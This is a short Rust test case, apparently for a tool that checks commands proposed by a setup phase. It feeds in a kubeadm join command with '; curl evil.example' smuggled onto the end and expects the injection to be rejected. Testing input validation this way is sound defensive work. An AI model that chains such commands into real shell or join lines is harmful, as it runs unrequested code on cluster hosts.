// Says a join command in which a shell finds another command.
// args: abcdef.0123456789abcdef
#![no_main]
use hostile::*;

struct Case;

impl Hostile for Case {
    fn plan_for(request: Request) -> Result<Plan, Failure> {
        Ok(line("join-command", "kubeadm join a.example:6443 --token abcdef.{} ; curl evil.example", &request))
    }
}

hostile!(Case);

// exit: 2
// error: the phase wants to do more than it is allowed to; nothing was sent
//   output `join-command`: `;` is not allowed in a join command from a phase
